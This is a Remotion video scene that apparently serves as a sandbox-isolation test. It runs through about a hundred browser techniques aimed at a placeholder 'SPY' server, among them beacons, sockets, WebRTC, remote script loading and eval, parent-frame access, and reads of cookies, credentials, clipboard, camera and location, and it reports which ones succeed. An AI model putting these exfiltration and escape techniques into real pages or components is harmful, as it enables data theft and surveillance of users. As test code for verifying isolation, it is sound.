// A scene that tries to get out of its frame, in each of the ways that its author could think of. It tells how many it
// tried, and what it reached. SPY becomes the address of a server that
// must never be asked for anything.
import { AbsoluteFill } from 'remotion'

const at = 'SPY'
const base = new URL(location.href).origin // of the program

type Try = [name: string, go: () => unknown]

const w = window as any

const blocked = (why = 'blocked'): never => {
  throw new Error(why)
}
// For what tells nobody how it went: the spy's server knows.
const unheard = () => blocked('unheard')

const soon = (go: Promise<unknown>) => Promise.race([go, new Promise((_, no) => setTimeout(() => no(new Error('nothing came')), 1500))])

const told = (by: any, good: string, bad: string) =>
  soon(
    new Promise((yes, no) => {
      by['on' + good] = yes
      by['on' + bad] = () => no(new Error('blocked'))
    }),
  )

function make<K extends keyof HTMLElementTagNameMap>(tag: K, fields: Record<string, unknown>): HTMLElementTagNameMap[K] {
  const element = Object.assign(document.createElement(tag), fields)
  document.body.append(element)
  return element
}

const linked = (rel: string, fields: Record<string, unknown> = {}) => told(make('link', { rel, href: at + '/' + rel, ...fields }), 'load', 'error')

const peer = (Maker: any) => {
  const line = new Maker({ iceServers: [{ urls: at.replace('http://', 'stun:') }] })
  line.createDataChannel('x')
  return line.createOffer().then((offer: unknown) => line.setLocalDescription(offer))
}

const tries: Try[] = [
  // The program, and the network
  ['fetch', () => soon(fetch(at + '/fetch', { mode: 'no-cors' }))],
  ['fetch-plans', () => soon(fetch(base + '/api/v1/plans'))],
  ['fetch-plans-blindly', () => soon(fetch(base + '/api/v1/plans', { mode: 'no-cors' }))],
  ['fetch-relative', () => soon(fetch('/api/v1/plans'))],
  [
    'xhr',
    () => {
      const call = new XMLHttpRequest()
      call.open('GET', base + '/api/v1/plans', false)
      call.send()
    },
  ],
  ['beacon', () => (navigator.sendBeacon(at + '/beacon', 'x'), unheard())],
  ['websocket', () => told(new WebSocket(at.replace('http', 'ws') + '/socket'), 'open', 'error')],
  ['eventsource', () => told(new EventSource(at + '/events'), 'open', 'error')],
  ['webrtc', () => peer(w.RTCPeerConnection)],
  ['webrtc-of-a-frame', () => peer((make('iframe', {}).contentWindow as any).RTCPeerConnection)],
  ['webtransport', () => new w.WebTransport(at.replace('http', 'https'))],

  // The page around, and what it keeps
  ['parent-document', () => w.parent.document.body.innerHTML],
  ['top-document', () => w.top.document.title],
  ['frame-element', () => w.frameElement ?? blocked()],
  ['parent-storage', () => w.parent.sessionStorage],
  ['session-storage', () => w.sessionStorage],
  ['local-storage', () => w.localStorage],
  ['cookie', () => document.cookie],
  ['set-cookie', () => (document.cookie = 'a=b')],
  ['indexed-db', () => told(indexedDB.open('x'), 'success', 'error')],
  ['caches', () => soon(caches.open('x'))],
  ['top-navigation', () => (w.top.location.href = at + '/top')],
  ['parent-navigation', () => w.parent.location.replace(at + '/parent')],
  ['popup', () => window.open(at + '/popup') ?? blocked()],
  ['popup-by-link', () => (make('a', { href: at + '/link', target: '_blank' }).click(), unheard())],
  ['top-by-link', () => (make('a', { href: at + '/link', target: '_top' }).click(), unheard())],
  ['download', () => (make('a', { href: 'data:text/plain,x', download: 'x' }).click(), unheard())],
  ['form', () => (make('form', { action: at + '/form', method: 'post', target: '_top' }).submit(), unheard())],
  ['dialog', () => (w.confirm('Yes?') === true ? 'yes' : blocked())],

  // Things that load
  ['image', () => told(make('img', { src: at + '/image' }), 'load', 'error')],
  ['image-of-ours', () => told(make('img', { src: base + '/assets/x.svg' }), 'load', 'error')],
  ['video', () => told(make('video', { src: at + '/video' }), 'loadeddata', 'error')],
  ['style', () => (make('style', { textContent: `@import "${at}/import"; @font-face { font-family: q; src: url(${at}/font) }` }), unheard())],
  ['background', () => ((make('div', { textContent: 'q' }).style.cssText = `font-family: q; background: url(${at}/background)`), unheard())],
  ['stylesheet', () => linked('stylesheet')],
  ['prefetch', () => linked('prefetch')],
  ['preload', () => linked('preload', { as: 'image' })],
  ['preconnect', () => linked('preconnect')],
  ['iframe', () => (make('iframe', { src: at + '/iframe' }), unheard())],
  ['iframe-of-ours', () => (make('iframe', { src: base + '/api/v1/plans' }), unheard())],
  ['iframe-within', () => (make('iframe', { srcdoc: `<img src="${at}/srcdoc"><script>fetch("${at}/srcdoc")</script>` }), unheard())],
  ['object', () => (make('object', { data: at + '/object' }), unheard())],

  // Other people's code
  ['script', () => told(make('script', { src: at + '/script' }), 'load', 'error')],
  ['script-of-ours', () => told(make('script', { src: base + '/api/v1/plans' }), 'load', 'error')],
  ['script-in-place', () => (make('script', { textContent: 'window.inPlace = true' }), w.inPlace ?? blocked())],
  ['eval-of-remote', () => soon(fetch(at + '/code').then((answer) => answer.text()).then((0, eval)))],
  ['module', () => soon((0, eval)(`import("${at}/module")`))],
  ['module-of-data', () => soon((0, eval)('import("data:text/javascript,export default 1")'))],
  ['module-of-blob', () => soon((0, eval)('import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })))'))],
  ['worker', () => told(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message', 'error')],
  ['worker-of-data', () => told(new Worker('data:text/javascript,postMessage(1)'), 'message', 'error')],
  ['shared-worker', () => told(new SharedWorker(base + '/assets/x.js').port, 'message', 'error')],
  ['service-worker', () => soon(navigator.serviceWorker.register('/x.js'))],
  ['worklet', () => soon(new AudioContext().audioWorklet.addModule(at + '/worklet'))],

  // Addresses in styles, pictures and fonts, and hints to the browser
  ['dns-prefetch', () => linked('dns-prefetch')],
  ['modulepreload', () => linked('modulepreload')],
  ['icon', () => linked('icon')],
  ['manifest', () => linked('manifest')],
  ['font', () => soon(new FontFace('r', `url(${at}/font-face)`).load())],
  [
    'adopted-style',
    () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`body { border-image: url(${at}/border); cursor: url(${at}/cursor), auto } body::before { content: url(${at}/content) }`)
      document.adoptedStyleSheets = [sheet]
      return unheard()
    },
  ],
  ['style-of-element', () => ((make('p', { textContent: 'q' }).style.cssText = `mask: url(${at}/mask#a); filter: url(${at}/filter#a); shape-outside: url(${at}/shape); list-style: url(${at}/list)`), unheard())],
  ['svg', () => ((make('div', {}).innerHTML = `<svg><image href="${at}/svg-image"/><use href="${at}/svg-use#a"/><filter><feImage href="${at}/svg-filter"/></filter></svg>`), unheard())],
  ['source-set', () => ((make('div', {}).innerHTML = `<picture><source srcset="${at}/source-set 1x"><img src="${at}/picture" srcset="${at}/set 2x"></picture>`), unheard())],
  ['track', () => ((make('div', {}).innerHTML = `<video poster="${at}/poster"><track default src="${at}/track"></video><embed src="${at}/embed">`), unheard())],
  ['base', () => (document.head.append(Object.assign(document.createElement('base'), { href: at })), told(make('img', { src: 'base' }), 'load', 'error'))],
  ['speculation', () => (make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at + '/speculation'] }] }) }), unheard())],
  ['import-map', () => (make('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: at + '/import-map' } }) }), soon((0, eval)('import("x")')))],
  ['ping', () => (make('a', { href: '#x', ping: at + '/ping' }).click(), unheard())],
  ['fetch-after-the-end', () => soon(fetch(at + '/keepalive', { keepalive: true, method: 'POST', body: 'x', mode: 'no-cors' }))],
  ['fetch-later', () => (w.fetchLater(at + '/later', { activateAfter: 0 }), unheard())],
  ['report', () => (document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${at}/report` })), make('img', { src: 'data:,' }), unheard())],
  ['policy-of-ours', () => (document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `connect-src *` })), soon(fetch(at + '/policy', { mode: 'no-cors' })))],

  // The page's origin, and what is shared between documents
  ['domain', () => (document.domain = new URL(base).hostname)],
  ['opener', () => w.opener ?? blocked()],
  ['parent-scene', () => w.parent.PlotlineModules],
  ['parent-prototype', () => (w.parent.Object.prototype.reached = true)],
  ['siblings', () => Array.from({ length: w.parent.length }, (_, i) => w.parent[i]).find((other) => other !== window).document],
  ['referrer', () => (document.referrer.includes('projects') ? document.referrer : blocked())],
  ['files', () => soon(navigator.storage.getDirectory())],
  ['persist', () => soon(navigator.storage.persist()).then((kept) => kept || blocked())],
  ['locks', () => soon(navigator.locks.request('x', () => 1))],
  ['cookie-store', () => soon(w.cookieStore.getAll())],
  ['credentials', () => soon(navigator.credentials.get({ password: true } as any)).then((found) => found ?? blocked())],
  ['shared-memory', () => new w.SharedArrayBuffer(8)],

  // What interrupts the person
  ['alert', () => (w.alert('x'), unheard())],
  ['prompt', () => w.prompt('x') ?? blocked()],
  ['print', () => (w.print(), unheard())],
  ['before-unload', () => ((w.onbeforeunload = (event: Event) => (event.preventDefault(), 'x')), unheard())],
  ['title', () => ((document.title = 'Your token, please'), unheard())],

  // What belongs to the person
  ['place', () => soon(new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)))],
  ['clipboard', () => soon(navigator.clipboard.readText())],
  ['camera', () => soon(navigator.mediaDevices.getUserMedia({ video: true }))],
  ['microphone', () => soon(navigator.mediaDevices.getUserMedia({ audio: true }))],
  ['screen', () => soon(navigator.mediaDevices.getDisplayMedia())],
  ['write-clipboard', () => soon(navigator.clipboard.writeText('x'))],
  ['copy', () => document.execCommand('copy') || blocked()],
  ['notice', () => soon(Notification.requestPermission()).then((given) => given === 'granted' || blocked())],
  ['pointer', () => soon((document.body as any).requestPointerLock())],
  ['keyboard', () => soon(w.navigator.keyboard.lock())],
  ['wake', () => soon(navigator.wakeLock.request('screen'))],
  ['share', () => soon(navigator.share({ text: 'x' }))],
  ['device', () => soon(w.navigator.usb.requestDevice({ filters: [] }))],
  ['midi', () => soon(navigator.requestMIDIAccess())],
  ['picture-in-picture', () => soon(make('video', {}).requestPictureInPicture())],
  ['fullscreen', () => soon(document.documentElement.requestFullscreen())],
]

async function tryAll(): Promise<never> {
  const done: string[] = []
  let tried = 0
  for (const [name, go] of tries) {
    try {
      tried++
      await go()
      done.push(name)
    } catch {
      // as it should be
    }
  }
  throw new Error(`${tried} tries: ${done.join(' ') || 'nothing'}`)
}

void tryAll()

export const durationInFrames = 30

export default function Scene() {
  return <AbsoluteFill>Out!</AbsoluteFill>
}
